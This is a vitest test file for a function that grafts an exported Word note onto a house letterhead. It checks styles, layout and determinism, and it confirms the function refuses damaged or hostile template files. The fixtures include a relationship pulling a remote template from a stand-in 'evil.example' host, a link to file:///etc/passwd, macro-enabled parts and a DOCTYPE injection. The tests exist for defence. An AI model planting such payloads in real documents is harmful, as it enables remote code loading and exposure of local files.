import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { exportNote } from '../../../../shared/word/export-note.ts'
import { type Grafted, graft } from '../../../../shared/word/house-style/graft.ts'
import { lintDocx } from '../../../../shared/word/lint/lint.ts'
import { aLetterhead } from '../../../build/a-letterhead.ts'
import { aNote, block, cite, list, p, table, text } from '../../../build/a-note.ts'
import { type Damage, damaged, partText } from '../../../build/damaged.ts'
import { shownText } from '../../../build/shown-text.ts'
import { sdkErrors } from '../../../build/validated.ts'

const note = aNote(
  {
    background: [
      p(
        'b1',
        'They met, says ',
        text('the ministry', { type: 'link', attrs: { href: 'https://www.example.org/a' } }),
        '.',
        cite('c', 'excerpt-0'),
      ),
      list('orderedList', [p('i', 'One')]),
      block('blockQuotation', { id: 'q', excerptId: 'excerpt-0' }, ['both agreed']),
    ],
    considerations: [table('t', 'Options', [['A'], ['1']])],
  },
  { excerpts: [['COMMIT', 'both agreed', { actor: 'both' }, 'para 4']] },
)
const outcome = exportNote(note, 'docx', { variant: 'working' })
const ours = 'bytes' in outcome ? outcome.bytes : new Uint8Array()
const letterhead = await aLetterhead()

function value(grafted: Grafted): Uint8Array {
  if ('refused' in grafted) throw new Error(grafted.refused.join())
  return grafted.value
}

const swap = (part: string, from: string | RegExp, to: string): Damage => [part, (words) => words.replace(from, to)]

describe('a note in a house style', () => {
  const grafted = graft(ours, letterhead)
  const bytes = value(grafted)

  it('is valid, with no fault the lint knows', () => {
    expect(lintDocx(bytes).filter(({ rule }) => rule !== 'heading-without-level')).toEqual([])
    expect(sdkErrors(bytes)).toEqual([])
  })

  it('shows the same words as without it', () => {
    expect(shownText(bytes)).toEqual(shownText(ours))
  })

  it('carries header, footer, theme and settings over byte for byte', () => {
    const [before, after] = [unzipSync(letterhead), unzipSync(bytes)]
    const touched =
      /^(\[Content_Types\]\.xml|word\/(document|styles|numbering|footnotes|endnotes|comments)\.xml|word\/_rels\/.*|docProps\/.*)$/
    const kept = Object.keys(before).filter((path) => !touched.test(path))
    expect(kept.length).toBeGreaterThan(6)
    for (const path of kept) expect(Buffer.compare(before[path] ?? Buffer.of(), after[path] ?? Buffer.of())).toBe(0)
  })

  it('uses the house’s styles by their names and adds only what it lacks', () => {
    const document = partText(bytes, 'word/document.xml')
    expect(document).toMatch(/w:pStyle w:val="Berschrift1"\/>.*?Liaison officers/)
    expect(document).toMatch(/w:pStyle w:val="Beschriftung"\/>/)
    expect(partText(bytes, 'word/styles.xml')).toContain('w:styleId="NoteBodyText"')
    expect('messages' in grafted && grafted.messages[0]).toMatch(/^The house style has no style for .*quotations/)
  })

  it('keeps the house’s page, its different first page and its lists', () => {
    const document = partText(bytes, 'word/document.xml')
    expect(document).toMatch(/<w:titlePg\/>/)
    expect(document.match(/w:top="2268"/g)?.length).toBe(document.match(/<w:sectPr\b/g)?.length)
    expect(document.match(/<w:headerReference/g)).toHaveLength(2)
    expect(document).toMatch(/w:w="16838" w:h="11906" w:orient="landscape"/)
    expect(partText(bytes, 'word/numbering.xml')).toContain('§ %1')
  })

  it('says that the house’s own text was left out, and that the marking is now its header’s business', () => {
    const said = 'messages' in grafted ? grafted.messages.join(' ') : ''
    expect(said).toContain('“Dear colleague')
    expect(said).toContain('the marking UNCLASSIFIED')
  })

  it('stands where the house’s file has a place for it, with what is round it', async () => {
    const all = shownText(value(graft(ours, await aLetterhead(['Dear colleague', '{{note}}', 'Yours sincerely']))))
    expect(all[0]).toBe('Dear colleague')
    expect(all[1]).toBe('UNCLASSIFIED')
    expect(all).toContain('Yours sincerely')
  })

  it('is the same at every writing', () => {
    expect(Buffer.compare(value(graft(ours, letterhead)), bytes)).toBe(0)
  })
})

describe('an earlier copy of ours as the house style', () => {
  const clean = exportNote(note, 'docx')
  it.each([
    ['a working copy', ours],
    ['a note already in the house style', value(graft(ours, letterhead))],
  ])('%s gives a valid file, without the marks of the note it was', (_, house) => {
    const bytes = value(graft('bytes' in clean ? clean.bytes : ours, house))
    expect(lintDocx(bytes).filter(({ rule }) => rule !== 'heading-without-level')).toEqual([])
    expect(sdkErrors(bytes)).toEqual([])
    const all = Object.entries(unzipSync(bytes))
      .map(([path, part]) => path + strFromU8(part))
      .join('')
    expect(all).not.toMatch(/urn:aide-memoire|BN_|_bn_|customXml\//)
    const again = value(graft(ours, house))
    expect(lintDocx(again).filter(({ rule }) => rule !== 'heading-without-level')).toEqual([])
    expect(sdkErrors(again)).toEqual([])
  })
})

describe('a template', () => {
  it('is made an ordinary document', () => {
    const template = damaged(letterhead, swap('[Content_Types].xml', 'document.main+xml', 'template.main+xml'))
    expect(partText(value(graft(ours, template)), '[Content_Types].xml')).not.toContain('template.main')
  })
})

describe('a house style file is refused', () => {
  const rels = 'word/_rels/document.xml.rels'
  const relationship = (type: string, target: string) =>
    `<Relationship Id="rIdX" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  it.each<readonly [string, Uint8Array, RegExp]>([
    ['with macros', damaged(letterhead, ['word/vbaProject.bin', () => 'x']), /macros/],
    [
      'that is macro-enabled',
      damaged(letterhead, swap('[Content_Types].xml', 'document.main+xml', 'document.macroEnabled.main+xml')),
      /macros/,
    ],
    [
      'that fetches its template',
      damaged(
        letterhead,
        swap(rels, '</Relationships>', relationship('attachedTemplate', 'https://evil.example/t.dotm')),
      ),
      /from outside/,
    ],
    [
      'that links to a local file',
      damaged(letterhead, swap(rels, '</Relationships>', relationship('hyperlink', 'file:///etc/passwd'))),
      /from outside/,
    ],
    [
      'with broken XML',
      damaged(letterhead, swap('word/styles.xml', '</w:styles>', '')),
      /damaged: its part word\/styles\.xml/,
    ],
    [
      'with a document type',
      damaged(letterhead, swap('word/styles.xml', '<w:styles', '<!DOCTYPE x><w:styles')),
      /damaged/,
    ],
    [
      'that is a protected form',
      damaged(
        letterhead,
        swap(
          'word/settings.xml',
          '<w:displayBackgroundShape/>',
          '<w:documentProtection w:edit="forms" w:enforcement="1"/>',
        ),
      ),
      /protected/,
    ],
    [
      'with tracked changes',
      damaged(letterhead, swap('word/document.xml', '<w:r>', '<w:ins w:id="1" w:author="a"><w:r/></w:ins><w:r>')),
      /tracked changes/,
    ],
    [
      'with 5,001 styles',
      damaged(
        letterhead,
        swap('word/styles.xml', '</w:styles>', `${'<w:style w:styleId="x"/>'.repeat(5001)}</w:styles>`),
      ),
      /5,000 styles/,
    ],
    [
      'whose XML has names of its own',
      damaged(letterhead, swap('word/document.xml', /<(\/?)w:/g, '<$1n:')),
      /unusual way/,
    ],
    ['that is encrypted', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0), /encrypted/],
    ['that is no Word file', new TextEncoder().encode('hello'), /no Word file/],
  ])('%s', (_, house, reason) => {
    const result = graft(ours, house)
    expect('refused' in result && result.refused.join(' ')).toMatch(reason)
  })

  it('without heading styles it still works, with ours', () => {
    const bare = damaged(
      letterhead,
      swap('word/styles.xml', /<w:style [^>]*w:styleId="Berschrift1"[\s\S]*?<\/w:style>/, ''),
    )
    expect(sdkErrors(value(graft(ours, bare)))).toEqual([])
    expect(strFromU8(unzipSync(value(graft(ours, bare)))['word/styles.xml'] ?? new Uint8Array())).toContain(
      'w:styleId="Heading1"',
    )
  })
})
